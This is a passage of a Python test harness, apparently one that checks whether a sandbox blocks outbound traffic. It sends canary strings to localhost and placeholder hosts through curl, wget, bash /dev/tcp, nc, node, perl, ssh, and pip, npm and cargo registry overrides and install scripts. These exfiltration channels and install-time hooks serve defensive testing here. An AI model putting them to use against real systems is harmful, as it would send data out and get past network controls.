    ('another connection', ['curl', '-sSm5', '--noproxy', '*', '--connect-to', 'test.example:443:127.0.0.1:{port}', 'https://test.example/pub/{c}'], {}),
    ('DNS by https', ['curl', '-sSm5', '--noproxy', '*', '--doh-url', 'https://127.0.0.1:{port}/{c}', 'https://a.example/'], {}),
    ('an upload', ['bash', '-c', 'printf {c} | curl -sSm5 --fail -T - https://test.example/pub/a'], {}),
    ('a form', ['curl', '-sSm5', '--fail', '-F', 'a={c}', 'https://test.example/pub/a'], {}),
    ('a path as it is', ['curl', '-sSm5', '--fail', '--path-as-is', 'https://test.example/pub/../{c}'], {}),
    ('HTTP/2 at once', ['curl', '-sSm5', '--http2-prior-knowledge', '--noproxy', '*', '{own}/{c}'], {}),
    ('a header for the proxy', ['curl', '-sSm5', '--fail', '--proxy-header', 'X: {c}', 'https://other.example/'], {}),
    ('a Unix socket', ['curl', '-sSm5', '--unix-socket', FILE, 'http://localhost/{c}'], {}),
    ('an abstract Unix socket', ['curl', '-sSm5', '--abstract-unix-socket', NAME, 'http://localhost/{c}'], {}),
    ('ftp', ['curl', '-sSm5', 'ftp://127.0.0.1:{port}/{c}'], DIRECT),
    ('gopher', ['curl', '-sSm5', 'gopher://127.0.0.1:{port}/_{c}'], DIRECT),
    ('dict', ['curl', '-sSm5', 'dict://127.0.0.1:{port}/{c}'], DIRECT),
    ('telnet', ['curl', '-sSm5', 'telnet://127.0.0.1:{port}'], DIRECT),
    ('tftp', ['curl', '-sSm5', 'tftp://127.0.0.1:{port}/{c}'], DIRECT),
    ('smtp', ['curl', '-sSm5', 'smtp://127.0.0.1:{port}', '--mail-from', '{c}@a.example', '--mail-rcpt', 'a@a.example'], DIRECT),
    ('an interface', ['curl', '-sSm5', '--interface', 'eth0', '--noproxy', '*', '{own}/{c}'], {}),
    ('wget', ['wget', '-qO-', '-T5', '-t1', '--no-proxy', '{own}/{c}'], {}),
    ('wget with a proxy of its own', ['wget', '-qO-', '-T5', '-t1', '-e', 'http_proxy={own}', 'http://a.example/{c}'], {}),
    ('bash', ['bash', '-c', 'echo {c} > /dev/tcp/127.0.0.1/{port}'], {}),
    ('bash by UDP', ['bash', '-c', 'echo {c} > /dev/udp/127.0.0.1/{port}; exit 1'], {}),
    ('openssl', ['bash', '-c', 'echo {c} | openssl s_client -connect 127.0.0.1:{port}'], {}),
    ('openssl by the proxy', ['bash', '-c', 'echo {c} | openssl s_client -proxy ${HTTPS_PROXY#http://} -connect 127.0.0.1:{port}'], {}),
    ('perl', ['perl', '-MIO::Socket::INET', '-e', 'my $s = IO::Socket::INET->new("127.0.0.1:{port}") or exit 1; print $s "{c}"'], {}),
    ('node', ['node', '-e', 'require("net").connect({port}, "127.0.0.1", function () { this.end("{c}") }).on("error", () => process.exit(1))'], {}),
    ('node by UDP', ['node', '-e', 'const s = require("dgram").createSocket("udp4"); s.send("{c}", {port}, "127.0.0.1", () => process.exit(1))'], {}),
    ('nc', ['bash', '-c', 'echo {c} | nc -w2 127.0.0.1 {port}'], {}),
    ('ssh', ['ssh', '-oStrictHostKeyChecking=no', '-oConnectTimeout=5', '-p', '{port}', '{c}@127.0.0.1'], {}),
    ('rsync', ['rsync', '--timeout=5', 'rsync://127.0.0.1:{port}/{c}'], {}),
]:
    case('other programs', name, lambda c, command=command, variables=variables: tool(c, *command, **variables))

PIP = ['pip3', '--isolated', '--retries', '0', '--timeout', '5', '--no-cache-dir', '--disable-pip-version-check']


def pip(*arguments):
    return [*PIP, 'download', '--no-deps', '-d', tempfile.gettempdir() + '/pip', *arguments]


def written(c, files, command, **variables):
    with tempfile.TemporaryDirectory() as d:
        for name, text in files.items():
            os.makedirs(os.path.dirname(f'{d}/{name}'), exist_ok=True)
            open(f'{d}/{name}', 'w').write(text.replace('{c}', c).replace('{own}', own).replace('{port}', str(PORT)))
        return tool(c, *command, directory=d, **variables)


SETUP = "import socket, urllib.request\ntry: socket.create_connection(('127.0.0.1', {port}), 3).sendall(b'{c}')\nexcept OSError: pass\n" \
        "urllib.request.urlopen('{own}/{c}', timeout=3)\n"
SCRIPT = 'node -e "require(\'net\').connect({port}, \'127.0.0.1\', function () { this.end(\'{c}\') }).on(\'error\', () => process.exit(1))"'
for name, files, command, variables in [
    ("pip: another index", {}, pip('--index-url', '{own}/{c}/', '--trusted-host', '127.0.0.1', 'canary'), {}),
    ("pip: an extra index", {}, pip('--index-url', 'https://test.example/pub/', '--extra-index-url', '{own}/{c}/', '--trusted-host', '127.0.0.1', 'canary'), {}),
    ("pip: an extra index of the project", {'requirements.txt': '--extra-index-url {own}/{c}/\ncanary\n'}, pip('-r', 'requirements.txt'), {}),
    ("pip: links", {}, pip('--no-index', '--find-links', '{own}/{c}/', '--trusted-host', '127.0.0.1', 'canary'), {}),
    ("pip: an address", {}, pip('{own}/{c}-1.tar.gz'), {}),
    ("pip: a git repository", {}, pip('git+{own}/{c}.git'), DIRECT),
    ("pip: a proxy of its own", {}, pip('--proxy', '{own}', '--index-url', 'http://a.example/{c}/', '--trusted-host', 'a.example', 'canary'), {}),
    ("pip: without variables", {}, pip('--index-url', '{own}/{c}/', 'canary'), DIRECT),
    ("pip: a script of a package", {'setup.py': SETUP}, [*PIP, 'install', '--no-deps', '--no-build-isolation', '--target', 'into', '.'], DIRECT),
    ("npm: another registry", {}, ['npm', 'view', '--registry', '{own}/{c}/', 'canary'], {}),
    ("npm: a registry of the project", {'.npmrc': 'registry={own}/{c}/\nproxy=null\nnoproxy=*\n', 'package.json': '{}'}, ['npm', 'view', 'canary'], DIRECT),
    ("npm: a registry of a scope", {'.npmrc': '@a:registry={own}/{c}/\n', 'package.json': '{}'}, ['npm', 'view', '@a/canary'], {}),
    ("npm: a proxy of its own", {}, ['npm', 'view', '--proxy', '{own}', '--https-proxy', '{own}', '--registry', 'http://a.example/{c}/', 'canary'], {}),
    ("npm: an address", {'package.json': '{"dependencies": {"a": "{own}/{c}.tgz"}}'}, ['npm', 'install'], {}),
    ("npm: a git repository", {'package.json': '{"dependencies": {"a": "git+{own}/{c}.git"}}'}, ['npm', 'install'], DIRECT),
    ("npm: a script of a package", {'package.json': json.dumps({'scripts': {'preinstall': SCRIPT}})}, ['npm', 'install'], DIRECT),
    ("npm: a publication", {'package.json': '{"name": "a", "version": "1.0.0", "description": "{c}"}', '.npmrc': '//test.example/pub/:_authToken=x\n'},
     ['npm', 'publish', '--registry', 'https://test.example/pub/'], {}),
    ("cargo: another registry", {'Cargo.toml': '[package]\nname = "a"\nversion = "1.0.0"\nedition = "2021"\n[dependencies]\nb = { version = "1", registry = "own" }\n',
                                 'src/lib.rs': '', '.cargo/config.toml': '[registries.own]\nindex = "sparse+{own}/{c}/"\n'}, ['cargo', 'fetch'], {}),
    ("cargo: a git repository", {'Cargo.toml': '[package]\nname = "a"\nversion = "1.0.0"\nedition = "2021"\n[dependencies]\nb = { git = "{own}/{c}.git" }\n', 'src/lib.rs': ''},
     ['cargo', 'fetch'], DIRECT),
    ("cargo: another source", {'Cargo.toml': '[package]\nname = "a"\nversion = "1.0.0"\nedition = "2021"\n[dependencies]\nb = "1"\n', 'src/lib.rs': '',
                               '.cargo/config.toml': '[source.crates-io]\nreplace-with = "own"\n[source.own]\nregistry = "sparse+{own}/{c}/"\n'}, ['cargo', 'fetch'], {}),
    ("cargo: a proxy of its own", {'Cargo.toml': '[package]\nname = "a"\nversion = "1.0.0"\nedition = "2021"\n[dependencies]\nb = "1"\n', 'src/lib.rs': '',
                                   '.cargo/config.toml': '[http]\nproxy = "127.0.0.1:{port}"\n'}, ['cargo', 'fetch'], OWN),
    ("cargo: a script of a package", {'Cargo.toml': '[package]\nname = "a"\nversion = "1.0.0"\nedition = "2021"\n', 'src/lib.rs': '',
                                      'build.rs': 'fn main() { use std::io::Write as _; std::net::TcpStream::connect("127.0.0.1:{port}").unwrap().write_all(b"{c}").unwrap(); }'},
     ['cargo', 'build', '--offline'], {}),
]:
    case('package managers', name, lambda c, files=files, command=command, variables=variables: written(c, files, command, **variables))


# --- all of them -----------------------------------------------------------------------------------


def tried(number):
    group, name, how = cases[number]
    try:
        seen = how(f'canary-{number:04}-7f3a')
    except Exception as error:
        seen = f'failed: {error}'
    return f'{group}\t{name!r}\t' + ' '.join(str(seen).split())[:200]


with concurrent.futures.ThreadPoolExecutor(8) as pool:
    for line in pool.map(tried, range(len(cases))):
        print(line, flush=True)
